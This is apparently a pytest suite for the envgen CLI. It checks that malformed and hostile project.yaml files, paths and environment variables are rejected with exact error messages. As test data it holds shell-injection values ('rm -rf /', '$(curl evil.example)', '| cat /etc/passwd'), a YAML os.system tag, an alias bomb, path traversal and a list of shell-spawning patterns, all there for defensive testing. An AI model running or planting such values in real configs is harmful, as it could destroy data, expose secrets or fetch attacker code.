"""A corpus of broken inputs, each run through the real CLI entry point (`envgen.cli.main`).

Every case asserts the documented exit code (README "Exit codes"), that stderr is one message
starting with `error: ` (or click's `Error: ` for usage errors, exit 2), the WHOLE message where
it does not depend on the machine, and that no traceback is printed. `CASES` are project.yaml
contents; `PATH_CASES` set up files, symlinks and directories; `ENV_CASES` break environment
variables. docs/reliability.md reports the count.
"""

from __future__ import annotations

import ast
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import pytest

from envgen.cli import main

MINI: Final = Path(__file__).parents[2] / "data" / "matrix-mini"
GOOD: Final = 'name: p\npython: "3.11"\ntorch: "2.1.0"\n'
KEYS: Final = (
    "valid keys: name, python, torch, torchvision, torchaudio, accelerators, platforms, "
    "managers, pip, conda, lock, pytorch_index, pypi_index, write_index, ci, trusted_hosts, torch_from"
)


@dataclass(frozen=True, slots=True)
class Case:
    id: str
    content: bytes
    code: int
    message: str | None  # the whole stderr after "error: "; None: checked by `starts`
    starts: str = ""


UNSAFE_TAIL: Final = (
    "; each value is written on one line of a requirements file, environment.yml or header "
    "comment, where a line break or control character would end the line or hide text: remove it"
)


def spec(extra: str) -> bytes:
    return (GOOD + extra).encode()


def run_cli(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as info:
        main(args)
    out, err = capsys.readouterr()
    code = info.value.code
    assert isinstance(code, int)
    return code, out, err


def _bomb() -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 9):
        refs = ", ".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return ("\n".join(lines) + "\n").encode()


CASES: Final[tuple[Case, ...]] = (
    # --- not a mapping / not YAML / not text ---
    Case(
        "empty",
        b"",
        3,
        "project.yaml: (top level): expected a mapping of keys (name, python, "
        "torch, torchvision, torchaudio, ...), got null",
    ),
    Case(
        "only-comments",
        b"# nothing\n",
        3,
        "project.yaml: (top level): expected a mapping of "
        "keys (name, python, torch, torchvision, torchaudio, ...), got null",
    ),
    Case(
        "top-level-list",
        b"- cpu\n- cu118\n",
        3,
        "project.yaml: (top level): expected a "
        "mapping of keys (name, python, torch, torchvision, torchaudio, ...), got a list",
    ),
    Case(
        "top-level-string",
        b"torch 2.1\n",
        3,
        "project.yaml: (top level): expected a mapping "
        "of keys (name, python, torch, torchvision, torchaudio, ...), got str",
    ),
    Case(
        "bom-then-list",
        b"\xef\xbb\xbf- a\n",
        3,
        "project.yaml: (top level): expected a "
        "mapping of keys (name, python, torch, torchvision, torchaudio, ...), got a list",
    ),
    Case(
        "unclosed-bracket",
        b"name: p\naccelerators: [cpu\n",
        3,
        "project.yaml:3:1: not valid YAML: expected ',' or ']', but got '<stream end>'",
    ),
    Case(
        "tab-indent",
        b"name: p\n\ttorch: '2.1.0'\n",
        3,
        "project.yaml:2:1: not valid YAML: found character '\\t' that cannot start any token",
    ),
    Case(
        "bad-indent",
        b"name: p\n  torch: '2.1.0'\n",
        3,
        "project.yaml:2:8: not valid YAML: mapping values are not allowed here",
    ),
    Case(
        "unclosed-quote",
        b'name: "p\n',
        3,
        "project.yaml:2:1: not valid YAML: found unexpected end of stream",
    ),
    Case(
        "latin-1",
        b"name: caf\xe9\n",
        3,
        "project.yaml: not UTF-8 (byte 9: b'\\xe9'); save it as UTF-8",
    ),
    Case(
        "utf-16",
        "name: p\n".encode("utf-16"),
        3,
        "project.yaml: not UTF-8 (byte 0: b'\\xff'); save it as UTF-8",
    ),
    Case(
        "huge",
        b"# " + b"x" * 300_000 + b"\n",
        3,
        "project.yaml: the file is 300003 bytes; a project.yaml may be at most 262144",
    ),
    Case(
        "deep-nesting",
        b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n",
        3,
        "project.yaml: refused: the YAML nests more than 100 levels deep; flatten it",
    ),
    Case(
        "python-tag",
        b'name: !!python/object/apply:os.system ["id"]\n',
        3,
        "project.yaml:1:7: "
        "not valid YAML: could not determine a constructor for the tag "
        "'tag:yaml.org,2002:python/object/apply:os.system'",
    ),
    Case(
        "unhashable-key",
        b"? [a, b]\n: 1\n",
        3,
        "project.yaml:1:3: not valid YAML: found unhashable key",
    ),
    Case(
        "impossible-date-scalar",
        spec("lock: {exclude_newer: 2022-13-45}\n"),
        3,
        "project.yaml: not valid YAML: a value cannot be read (month must be in 1..12)",
    ),
    Case(
        "billion-laughs",
        _bomb(),
        3,
        "project.yaml: refused: the YAML stands for more than 200000 values once its aliases "
        "(*name) are expanded (an alias bomb?); write the values out instead",
    ),
    # --- unknown keys and wrong types ---
    Case(
        "unknown-key",
        spec("acelerators: [cpu]\n"),
        3,
        f"project.yaml:4: acelerators: unknown key; {KEYS} (did you mean 'accelerators'?)",
    ),
    Case("int-key", spec("1: x\n"), 3, f"project.yaml:4: 1: unknown key; {KEYS}"),
    Case(
        "binary-name",
        b'name: !!binary aGVsbG8=\ntorch: "2.1.0"\n',
        3,
        "project.yaml:1: name: expected a string, got bytes",
    ),
    Case(
        "name-missing",
        b'torch: "2.1.0"\n',
        3,
        "project.yaml: name: missing; give the project a name, e.g. `name: my-paper`",
    ),
    Case(
        "name-number",
        b'name: 123\ntorch: "2.1.0"\n',
        3,
        "project.yaml:1: name: expected a string, got a number; quote it: '123'",
    ),
    *(
        Case(
            f"name-{label}",
            f'name: "{value}"\ntorch: "2.1.0"\n'.encode(),
            3,
            f"project.yaml:1: name: {value!r} is not a valid name: use 1-64 letters, digits, "
            "'.', '_' or '-', starting with a letter or digit (it names environments and "
            "files, so no '/' or spaces)",
        )
        for label, value in (
            ("traversal", "../../etc"),
            ("slash", "a/b"),
            ("dot", "."),
            ("dotdot", ".."),
            ("absolute", "/tmp/x"),
            ("too-long", "x" * 65),
            ("shell", "p;rm -rf ~"),
            ("backtick", "p`id`"),
        )
    ),
    # --- versions ---
    Case(
        "python-float",
        b'name: p\npython: 3.10\ntorch: "2.1.0"\n',
        3,
        "project.yaml:2: python: "
        'expected a string such as "3.10", got a number; YAML read it as the number 3.1: '
        "quote it: '3.10'",
    ),
    Case(
        "python-bad",
        b'name: p\npython: "3"\ntorch: "2.1.0"\n',
        3,
        "project.yaml:2: python: '3' is not a Python version; write major.minor, e.g. \"3.10\"",
    ),
    Case(
        "python-two",
        b'name: p\npython: "2.6"\ntorch: "2.1.0"\n',
        3,
        "project.yaml:2: python: python 2.6 is not supported: torch was published for Python 2 "
        'only as python 2.7 (torch 0.1.12-1.5.0); use "2.7" or "3.5" and later',
    ),
    Case(
        "python-empty-list",
        b'name: p\npython: []\ntorch: "2.1.0"\n',
        3,
        'project.yaml:2: python: the list is empty; name at least one version, e.g. ["3.11"]',
    ),
    Case(
        "python-duplicate",
        b'name: p\npython: ["3.11", "3.11"]\ntorch: "2.1.0"\n',
        3,
        "project.yaml:2: python[1]: python 3.11 is listed twice",
    ),
    Case(
        "torch-missing",
        b"name: p\n",
        3,
        "project.yaml: torch: missing; give a release "
        '("2.1.0"), a range (">=2.1,<2.3") or "latest"',
    ),
    Case(
        "torch-float",
        b"name: p\ntorch: 2.1\n",
        3,
        "project.yaml:2: torch: expected a string, "
        "got a number; YAML read it as the number 2.1: quote it: '2.1'",
    ),
    Case(
        "torch-nan",
        b"name: p\ntorch: .nan\n",
        3,
        "project.yaml:2: torch: expected a string, "
        "got a number; YAML read it as the number nan: quote it: 'nan'",
    ),
    Case(
        "torch-garbage",
        b'name: p\ntorch: "banana"\n',
        3,
        "project.yaml:2: torch: 'banana' is "
        'neither a version ("2.1.0"), a specifier (">=2.1,<2.3") nor "latest"',
    ),
    Case(
        "torch-injection",
        b'name: p\ntorch: "2.1.0; rm -rf /"\n',
        3,
        "project.yaml:2: torch: "
        '\'2.1.0; rm -rf /\' is neither a version ("2.1.0"), a specifier (">=2.1,<2.3") nor '
        '"latest"',
    ),
    Case(
        "name-newline",
        b'name: "p\\nq"\ntorch: "2.1.0"\n',
        3,
        "project.yaml:1: name: 'p\\nq' "
        "is not a valid name: use 1-64 letters, digits, '.', '_' or '-', starting with a letter "
        "or digit (it names environments and files, so no '/' or spaces)",
    ),
    Case(
        "torch-empty",
        b'name: p\ntorch: ""\n',
        3,
        "project.yaml:2: torch: is empty; give a "
        'release ("2.1.0"), a range (">=2.1,<2.3") or "latest"',
    ),
    Case(
        "torch-not-a-version",
        b'name: p\ntorch: "2.1.*"\n',
        3,
        "project.yaml:2: torch: "
        '\'2.1.*\' is neither a version ("2.1.0"), a specifier (">=2.1,<2.3") nor "latest"',
    ),
    Case(
        "torch-unpublished",
        b'name: p\ntorch: "99.0.0"\n',
        10,
        "torch: torch 99.0.0 is not a "
        "PyTorch release; releases near it: 1.11.0, 1.12.0, 2.1.0\n  hint: pin one of 1.11.0, "
        '1.12.0, 2.1.0, or use a range such as ">=99.0,<99.1"',
    ),
    Case("torch-impossible-range", b'name: p\ntorch: ">=99"\n', 10, None, "torch: no "),
    Case("torch-contradiction", b'name: p\ntorch: ">=2.1,<2.0"\n', 10, None, "torch: no "),
    Case(
        "torchvision-float",
        spec("torchvision: 0.16\n"),
        3,
        "project.yaml:4: torchvision: "
        "expected true, false or a quoted version, got a number; YAML read it as the number "
        "0.16: quote it: '0.16'",
    ),
    Case(
        "torchvision-garbage",
        spec('torchvision: "latest-ish"\n'),
        3,
        "project.yaml:4: "
        "torchvision: 'latest-ish' is not a version; use true, false or an exact version such "
        'as "0.16.0"',
    ),
    Case(
        "torchaudio-list",
        spec("torchaudio: [1]\n"),
        3,
        "project.yaml:4: torchaudio: expected true, false or a quoted version, got a list",
    ),
    # --- accelerators, platforms, managers ---
    Case(
        "accel-duplicate",
        spec("accelerators: [cpu, cpu]\n"),
        3,
        "project.yaml:4: accelerators[1]: cpu is listed twice",
    ),
    Case(
        "accel-cuda-dot",
        spec("accelerators: [cuda11.8]\n"),
        3,
        "project.yaml:4: "
        "accelerators[0]: 'cuda11.8' is not a compute platform; use cpu, cuXYZ (cu118), rocmX.Y "
        "(rocm6.1) or xpu (did you mean 'cu118'?)",
    ),
    Case(
        "accel-mapping",
        spec("accelerators: {cpu: 1}\n"),
        3,
        "project.yaml:4: accelerators: "
        'expected a list such as [cpu, cu118] or "all", got a mapping',
    ),
    Case(
        "accel-empty",
        spec("accelerators: []\n"),
        3,
        "project.yaml:4: accelerators: the list is empty; name at least one, e.g. [cpu]",
    ),
    Case(
        "accel-all-in-list",
        spec("accelerators: [cpu, all]\n"),
        3,
        'project.yaml:4: accelerators[1]: "all" stands alone: write `accelerators: all`',
    ),
    Case(
        "accel-int",
        spec("accelerators: [118]\n"),
        3,
        "project.yaml:4: accelerators[0]: "
        "expected a string such as cu118, got a number; quote it: '118'",
    ),
    Case(
        "accel-injection",
        spec('accelerators: ["cu118; rm -rf ~"]\n'),
        3,
        "project.yaml:4: "
        "accelerators[0]: 'cu118; rm -rf ~' is not a compute platform; use cpu, cuXYZ (cu118), "
        "rocmX.Y (rocm6.1) or xpu",
    ),
    Case(
        "accel-traversal",
        spec('accelerators: ["../../x"]\n'),
        3,
        "project.yaml:4: "
        "accelerators[0]: '../../x' is not a compute platform; use cpu, cuXYZ (cu118), rocmX.Y "
        "(rocm6.1) or xpu",
    ),
    Case(
        "accel-unpublished",
        spec("accelerators: [cu116]\n"),
        10,
        "project.yaml: "
        "accelerators[0]: torch 2.1.0 was not published for cu116 on linux-64 (pip or conda); it "
        "was published for cpu, cu118, cu121 (did you mean 'cu118'?)",
    ),
    Case(
        "platform-typo",
        spec("platforms: [linux64]\n"),
        3,
        "project.yaml:4: platforms[0]: "
        "'linux64' is not one of linux-64, linux-aarch64, osx-64, osx-arm64, win-64 (did you "
        "mean 'linux-64'?)",
    ),
    Case(
        "platform-duplicate",
        spec("platforms: [linux-64, linux-64]\n"),
        3,
        "project.yaml:4: platforms[1]: linux-64 is listed twice",
    ),
    Case(
        "manager-unknown",
        spec("managers: [poetry]\n"),
        3,
        "project.yaml:4: managers[0]: 'poetry' is not one of pip, conda",
    ),
    # --- pip requirements: injection, duplicates, URLs, options ---
    Case(
        "pip-string",
        spec('pip: "numpy"\n'),
        3,
        'project.yaml:4: pip: expected a list of requirements such as ["numpy<2"], got str',
    ),
    Case(
        "pip-float",
        spec("pip: [1.5]\n"),
        3,
        "project.yaml:4: pip[0]: expected a PEP 508 "
        "requirement string, got a number; YAML read it as the number 1.5: quote it: '1.5'",
    ),
    Case(
        "pip-semicolon",
        spec('pip: ["numpy; rm -rf /"]\n'),
        3,
        None,
        "project.yaml:4: pip[0]: 'numpy; rm -rf /' is not a valid requirement: ",
    ),
    Case(
        "pip-subshell",
        spec('pip: ["$(curl evil.example)"]\n'),
        3,
        None,
        "project.yaml:4: pip[0]: '$(curl evil.example)' is not a valid requirement: ",
    ),
    Case(
        "pip-backtick",
        spec('pip: ["numpy`id`"]\n'),
        3,
        None,
        "project.yaml:4: pip[0]: 'numpy`id`' is not a valid requirement: ",
    ),
    Case(
        "pip-pipe",
        spec('pip: ["numpy>=2 | cat /etc/passwd"]\n'),
        3,
        None,
        "project.yaml:4: pip[0]: 'numpy>=2 | cat /etc/passwd' is not a valid requirement: ",
    ),
    Case(
        "pip-option",
        spec('pip: ["--index-url http://evil.example"]\n'),
        3,
        None,
        "project.yaml:4: pip[0]: '--index-url http://evil.example' is not a valid requirement: ",
    ),
    Case(
        "pip-editable",
        spec('pip: ["-e ."]\n'),
        3,
        None,
        "project.yaml:4: pip[0]: '-e .' is not a valid requirement: ",
    ),
    Case(
        "pip-newline",
        spec('pip: ["numpy\\n--extra-index-url http://evil.example"]\n'),
        3,
        "project.yaml:4: pip[0]: 'numpy\\n--extra-index-url http://evil.example' holds U+000A "
        "LINE FEED at character 6" + UNSAFE_TAIL,
    ),
    Case(
        "pip-marker-backslash",
        spec("pip: ['numpy ; platform_release == \"a\\\\\"']\n"),
        3,
        "project.yaml:4: pip[0]: 'numpy ; platform_release == \"a\\\\\\\\\"' does not read back "
        "once written ('numpy; platform_release == \"a\\\\\"'); PEP 508 strings have no escapes: "
        "write the marker without a backslash",
    ),
    # Issue 21 item 8: every Unicode line break and control or format character, with its position.
    *(
        Case(
            f"pip-marker-{name}",
            spec(f'pip: ["numpy; sys_platform == \\"linux{escape}x\\""]\n'),
            3,
            f"project.yaml:4: pip[0]: 'numpy; sys_platform == \"linux{shown}x\"' holds {what} at "
            "character 30" + UNSAFE_TAIL,
        )
        for name, escape, shown, what in (
            ("u2028", "\\u2028", "\\u2028", "U+2028 LINE SEPARATOR"),
            ("u2029", "\\u2029", "\\u2029", "U+2029 PARAGRAPH SEPARATOR"),
            ("u0085", "\\x85", "\\x85", "U+0085 NEXT LINE"),
            ("vt", "\\v", "\\x0b", "U+000B LINE TABULATION"),
            ("rlo", "\\u202e", "\\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
            ("zwsp", "\\u200b", "\\u200b", "U+200B ZERO WIDTH SPACE"),
        )
    ),
    Case(
        "conda-dependency-u2028",
        spec('conda: {dependencies: ["ffmpeg >=6\\u2028--x"]}\n'),
        3,
        "project.yaml:4: conda.dependencies[0]: 'ffmpeg >=6\\u2028--x' holds U+2028 LINE SEPARATOR "
        "at character 11" + UNSAFE_TAIL,
    ),
    # Issue 21 item 9: packaging takes an empty clause, uv and PEP 508 do not.
    *(
        Case(
            f"torch-empty-clause-{i}",
            (f'name: demo\npython: "3.11"\ntorch: "{value}"\n').encode(),
            3,
            f"project.yaml:3: torch: '{value}' has an empty clause (the comma at character "
            f"{at}); uv and PEP 508 refuse it: write '>=2.1,<2.3'",
        )
        for i, (value, at) in enumerate(
            ((">=2.1,,<2.3", 7), (">=2.1,<2.3,", 11), (",>=2.1,<2.3", 1), (">=2.1, ,<2.3", 8))
        )
    ),
    Case(
        "pip-url",
        spec('pip: ["pkg @ https://evil.example/pkg.whl"]\n'),
        3,
        "project.yaml:4: "
        "pip[0]: 'pkg @ https://evil.example/pkg.whl': direct URL requirements cannot be locked "
        "reproducibly; pin a version",
    ),
    Case(
        "pip-torch",
        spec('pip: ["torch==2.0"]\n'),
        3,
        "project.yaml:4: pip[0]: torch is set by "
        "the `torch`/`torch` keys, not under pip:; remove it here",
    ),
    Case(
        "pip-duplicate",
        spec('pip: ["numpy", "NumPy<2"]\n'),
        3,
        "project.yaml:4: pip[1]: NumPy is already listed at pip[0]; merge them",
    ),
    Case(
        "pip-impossible-version",
        spec('pip: ["numpy==1..2"]\n'),
        3,
        None,
        "project.yaml:4: pip[0]: 'numpy==1..2' is not a valid requirement: ",
    ),
    # --- conda ---
    Case(
        "conda-list",
        spec("conda: [ffmpeg]\n"),
        3,
        "project.yaml:4: conda: expected a mapping with channels and dependencies, got a list",
    ),
    Case(
        "conda-channel-injection",
        spec('conda: {channels: ["conda-forge; rm -rf /"]}\n'),
        3,
        "project.yaml:4: conda.channels[0]: 'conda-forge; rm -rf /' is not a channel name such "
        "as conda-forge",
    ),
    Case(
        "conda-channel-traversal",
        spec('conda: {channels: ["../../etc"]}\n'),
        3,
        "project.yaml:4: conda.channels[0]: '../../etc' is not a channel name such as conda-forge",
    ),
    Case(
        "conda-dep-injection",
        spec('conda: {dependencies: ["ffmpeg && curl x"]}\n'),
        3,
        "project.yaml:4: conda.dependencies[0]: 'ffmpeg && curl x' is not a conda match spec "
        'such as ffmpeg or "ffmpeg>=6"',
    ),
    Case(
        "conda-dep-torch",
        spec("conda: {dependencies: [pytorch]}\n"),
        3,
        "project.yaml:4: "
        "conda.dependencies[0]: 'pytorch' is set by envgen from torch/python; remove it here",
    ),
    Case(
        "conda-unknown-key",
        spec("conda: {chanels: []}\n"),
        3,
        "project.yaml:4: conda.chanels: "
        "unknown key; valid keys: channels, dependencies, source (did you mean 'channels'?)",
    ),
    # --- lock options and dates ---
    Case(
        "date-text",
        spec('lock: {exclude_newer: "yesterday"}\n'),
        3,
        "project.yaml:4: "
        "lock.exclude_newer: 'yesterday' is not a date; write YYYY-MM-DD, e.g. 2021-06-30",
    ),
    Case(
        "date-int",
        spec("lock: {exclude_newer: 20220630}\n"),
        3,
        "project.yaml:4: lock.exclude_newer: expected a date YYYY-MM-DD, got a number",
    ),
    Case(
        "date-quoted-impossible",
        spec('lock: {exclude_newer: "2022-02-30"}\n'),
        3,
        "project.yaml:4: lock.exclude_newer: '2022-02-30' is not a date; write YYYY-MM-DD, e.g. "
        "2021-06-30",
    ),
    Case(
        "resolver-unknown",
        spec("lock: {resolver: pip}\n"),
        3,
        "project.yaml:4: lock.resolver: 'pip' is not one of uv, pip-tools",
    ),
    Case(
        "lock-unknown-key",
        spec("lock: {exclude-newer: 2022-01-01}\n"),
        3,
        "project.yaml:4: "
        "lock.exclude-newer: unknown key; valid keys: exclude_newer, resolver (did you mean "
        "'exclude_newer'?)",
    ),
    Case(
        "lock-list",
        spec("lock: []\n"),
        3,
        "project.yaml:4: lock: expected a mapping (exclude_newer, resolver), got a list",
    ),
    # --- index URLs ---
    Case(
        "index-plain-http",
        spec('pytorch_index: "http://mirror.example/whl"\n'),
        3,
        "project.yaml:4: pytorch_index: plain-http index 'http://mirror.example/whl' can be "
        "tampered with in transit; use https, a file:// path, or list its host under trusted_hosts",
    ),
    Case(
        "index-plain-http-other-host-trusted",
        spec('trusted_hosts: [other.example]\npypi_index: "http://mirror.example/simple"\n'),
        3,
        "project.yaml:5: pypi_index: plain-http index 'http://mirror.example/simple' can be "
        "tampered with in transit; use https, a file:// path, or list its host under trusted_hosts",
    ),
    Case(
        "index-semicolon",
        spec('pytorch_index: "https://x.example/whl;rm -rf /"\n'),
        3,
        "project.yaml:4: pytorch_index: 'https://x.example/whl;rm -rf /' contains spaces or "
        "shell metacharacters; give a plain URL",
    ),
    Case(
        "index-subshell",
        spec('pytorch_index: "https://x.example/$(id)"\n'),
        3,
        "project.yaml:4: pytorch_index: 'https://x.example/$(id)' contains spaces or shell "
        "metacharacters; give a plain URL",
    ),
    Case(
        "index-backtick",
        spec('pypi_index: "https://x.example/`id`"\n'),
        3,
        "project.yaml:4: "
        "pypi_index: 'https://x.example/`id`' contains spaces or shell metacharacters; give a "
        "plain URL",
    ),
    Case(
        "index-ftp",
        spec('pytorch_index: "ftp://x.example/whl"\n'),
        3,
        "project.yaml:4: pytorch_index: 'ftp://x.example/whl' is not an http(s):// or file:// URL",
    ),
    Case(
        "index-no-host",
        spec('pytorch_index: "https:///whl"\n'),
        3,
        "project.yaml:4: pytorch_index: 'https:///whl' has no host",
    ),
    Case(
        "index-bad-ipv6",
        spec('pytorch_index: "http://[::1"\n'),
        3,
        "project.yaml:4: pytorch_index: 'http://[::1' is not a valid URL (Invalid IPv6 URL)",
    ),
    Case(
        "index-bad-port",
        spec('pytorch_index: "https://x.example:99999/whl"\n'),
        3,
        "project.yaml:4: pytorch_index: 'https://x.example:99999/whl' is not a valid URL (Port "
        "out of range 0-65535)",
    ),
    Case(
        "index-number",
        spec("pypi_index: 42\n"),
        3,
        "project.yaml:4: pypi_index: expected a URL string, got a number",
    ),
    Case(
        "trusted-hosts-string",
        spec("trusted_hosts: mirror.example\n"),
        3,
        "project.yaml:4: trusted_hosts: expected a list of host names, got str",
    ),
    Case(
        "trusted-hosts-url",
        spec('trusted_hosts: ["http://mirror.example"]\n'),
        3,
        "project.yaml:4: trusted_hosts[0]: 'http://mirror.example' is not a host name (letters, "
        "digits, '.', '-'; no scheme or port)",
    ),
    Case(
        "write-index",
        spec("write_index: banana\n"),
        3,
        "project.yaml:4: write_index: 'banana' is not one of official, mirror",
    ),
    Case(
        "ci-injection",
        spec('ci: {gpu_runner: "gpu; echo pwned"}\n'),
        3,
        "project.yaml:4: "
        "ci.gpu_runner: 'gpu; echo pwned' is not a runner label (letters, digits, '.', '_', "
        "'-', ',')",
    ),
    # --- several problems at once are reported together ---
    Case(
        "many",
        b'name: "a/b"\npython: 3.10\ntorch: 2.1\naccelerators: [cpu, cpu]\n',
        3,
        "project.yaml: 4 problems\n"
        "  - project.yaml:1: name: 'a/b' is not a valid name: use 1-64 letters, digits, '.', '_' "
        "or '-', starting with a letter or digit (it names environments and files, so no '/' or "
        "spaces)\n"
        '  - project.yaml:2: python: expected a string such as "3.10", got a number; YAML read '
        "it as the number 3.1: quote it: '3.10'\n"
        "  - project.yaml:3: torch: expected a string, got a number; YAML read it as the number "
        "2.1: quote it: '2.1'\n"
        "  - project.yaml:4: accelerators[1]: cpu is listed twice",
    ),
)


def check_error(code: int, out: str, err: str, case_code: int) -> str:
    assert "Traceback" not in out + err
    assert code == case_code, err
    assert err.startswith("error: "), err
    return err.removeprefix("error: ").rstrip("\n")


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_broken_spec(case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "project.yaml"
    path.write_bytes(case.content)
    code, out, err = run_cli(["list", str(path), "--matrix", str(MINI)], capsys)
    message = check_error(code, out, err, case.code)
    if case.message is not None:
        assert message == case.message
    else:
        assert message.startswith(case.starts), message
    assert out == ""


def test_trusted_host_allows_its_plain_http_index(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "project.yaml"
    path.write_bytes(
        spec('trusted_hosts: [mirror.example]\npytorch_index: "http://mirror.example/whl"\n')
    )
    code, out, err = run_cli(["list", str(path), "--matrix", str(MINI)], capsys)
    assert code == 0, err
    assert "error" not in err
    assert out.startswith("cpu\ttorch 2.1.0")


# --- paths: symlinks, directories, special files, --out -------------------------------------------
@dataclass(frozen=True, slots=True)
class PathCase:
    id: str
    setup: Callable[[Path], list[str]]  # returns the CLI arguments
    code: int
    message: str  # whole message, with {tmp} for the temp dir

    def expected(self, tmp: Path) -> str:
        return self.message.format(tmp=tmp)


def _good(tmp: Path) -> Path:
    path = tmp / "project.yaml"
    path.write_text(GOOD)
    return path


def _link(tmp: Path, target: str) -> list[str]:
    (tmp / "project.yaml").symlink_to(target)
    return ["list", str(tmp / "project.yaml")]


def _loop(tmp: Path) -> list[str]:
    (tmp / "a.yaml").symlink_to(tmp / "b.yaml")
    (tmp / "b.yaml").symlink_to(tmp / "a.yaml")
    return ["list", str(tmp / "a.yaml")]


def _fifo(tmp: Path) -> list[str]:
    os.mkfifo(tmp / "project.yaml")
    return ["list", str(tmp / "project.yaml")]


def _out_under_file(tmp: Path) -> list[str]:
    (tmp / "file").write_text("x")
    return ["lock", str(_good(tmp)), "--pins-only", "--out", str(tmp / "file" / "sub")]


def _out_is_file(tmp: Path) -> list[str]:
    (tmp / "file").write_text("x")
    return ["lock", str(_good(tmp)), "--pins-only", "--out", str(tmp / "file")]


def _huge(tmp: Path) -> list[str]:
    path = tmp / "project.yaml"
    with path.open("wb") as fh:
        fh.truncate(10 * 1024 * 1024)  # sparse: the size check must not read it all
    return ["list", str(path)]


PATH_CASES: Final[tuple[PathCase, ...]] = (
    PathCase(
        "missing", lambda t: ["list", str(t / "nope.yaml")], 3, "{tmp}/nope.yaml: no such file"
    ),
    PathCase(
        "dangling-symlink",
        lambda t: _link(t, "/nonexistent/project.yaml"),
        3,
        "{tmp}/project.yaml: no such file",
    ),
    PathCase(
        "symlink-loop", _loop, 3, "{tmp}/a.yaml: cannot be read: Too many levels of symbolic links"
    ),
    PathCase(
        "symlink-to-dev-zero",
        lambda t: _link(t, "/dev/zero"),
        3,
        "{tmp}/project.yaml: not a regular file",
    ),
    PathCase("fifo", _fifo, 3, "{tmp}/project.yaml: not a regular file"),
    PathCase(
        "out-under-a-file",
        _out_under_file,
        6,
        "envgen lock could not write {tmp}/file/sub: Not a directory; no file was left "
        "half-written (each holds its previous or its new content)",
    ),
    PathCase(
        "as-of-not-a-date",
        lambda t: ["lock", str(_good(t)), "--pins-only", "--as-of", "2022-02-30"],
        3,
        "--as-of '2022-02-30' is not a date; write YYYY-MM-DD, e.g. 2021-06-30",
    ),
    PathCase(
        "huge-file-on-disk",
        _huge,
        3,
        "project.yaml: the file is 10485760 bytes; a project.yaml may be at most 262144",
    ),
)


@pytest.mark.parametrize("case", PATH_CASES, ids=[c.id for c in PATH_CASES])
def test_broken_path(case: PathCase, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    args = [*case.setup(tmp_path), "--matrix", str(MINI)]
    code, out, err = run_cli(args, capsys)
    assert check_error(code, out, err, case.code) == case.expected(tmp_path)


# click's own usage errors: exit 2, "Error: ..." (click's wording), never a traceback.
USAGE_CASES: Final = (
    ("spec-is-directory", ["list", "{tmp}"], "is a directory"),
    ("spec-symlink-to-directory", ["list", "{tmp}/dirlink"], "is a directory"),
    ("out-is-a-file", ["lock", "{spec}", "--pins-only", "--out", "{tmp}/file"], "is a file"),
    ("jobs-zero", ["lock", "{spec}", "--jobs", "0"], "0 is not in the range 1<=x<=64"),
    ("unknown-resolver", ["lock", "{spec}", "--resolver", "pip"], "'pip' is not one of"),
    ("unknown-option", ["lock", "{spec}", "--rm-rf"], "No such option '--rm-rf'"),
)


@pytest.mark.parametrize(("name", "args", "fragment"), USAGE_CASES, ids=[c[0] for c in USAGE_CASES])
def test_usage_errors(
    name: str, args: list[str], fragment: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").write_text("x")
    (tmp_path / "dirlink").symlink_to(tmp_path)
    spec_path = _good(tmp_path)
    argv = [a.format(tmp=tmp_path, spec=spec_path) for a in args]
    code, out, err = run_cli(argv, capsys)
    assert code == 2, (name, err)
    assert "Traceback" not in out + err
    assert "Error: " in err
    assert fragment in err


# --- environment variables ------------------------------------------------------------------------
ENV_CASES: Final = (
    (
        "ENVGEN_PYTORCH_INDEX",
        "https://x.example/whl;id",
        (
            "ENVGEN_PYTORCH_INDEX: 'https://x.example/whl;id' contains spaces or shell "
            "metacharacters; give a plain URL"
        ),
    ),
    (
        "ENVGEN_PYTORCH_INDEX",
        "http://mirror.example/whl",
        (
            "ENVGEN_PYTORCH_INDEX: plain-http index 'http://mirror.example/whl' can be tampered "
            "with in transit; use https, a file:// path, or list its host under trusted_hosts"
        ),
    ),
    (
        "ENVGEN_PYPI_INDEX",
        "http://bob:CANARY-TOKEN-1234@mirror.example/simple",
        (
            "ENVGEN_PYPI_INDEX: plain-http index 'http://***@mirror.example/simple' can be "
            "tampered with in transit; use https, a file:// path, or list its host under trusted_hosts"
        ),
    ),
    (
        "ENVGEN_PYPI_INDEX",
        "gopher://x.example/simple",
        "ENVGEN_PYPI_INDEX: 'gopher://x.example/simple' is not an http(s):// or file:// URL",
    ),
)


@pytest.mark.parametrize(("var", "value", "message"), ENV_CASES)
def test_broken_environment(
    var: str,
    value: str,
    message: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv(var, value)
    args = ["lock", str(_good(tmp_path)), "--pins-only", "--matrix", str(MINI)]
    code, out, err = run_cli(args, capsys)
    assert check_error(code, out, err, 3) == message
    assert "CANARY" not in out + err
    assert not (tmp_path / "environments").exists()  # nothing written


def test_corpus_size() -> None:
    """docs/reliability.md reports this count."""
    assert len(CASES) + len(PATH_CASES) + len(USAGE_CASES) + len(ENV_CASES) >= 60


# --- no shell anywhere ----------------------------------------------------------------------------
PACKAGE: Final = Path(__file__).parents[3] / "envgen"
_SHELL_PATTERNS: Final = (
    "shell=True",
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "pty.spawn",
    "asyncio.create_subprocess_shell",
)


def test_no_shell_anywhere() -> None:
    """Every process starts from an argument list in envgen/infra/proc.py; nothing uses a shell."""
    problems: list[str] = []
    sources = sorted(PACKAGE.rglob("*.py"))
    assert len(sources) > 20
    for path in sources:
        rel = path.relative_to(PACKAGE.parent).as_posix()
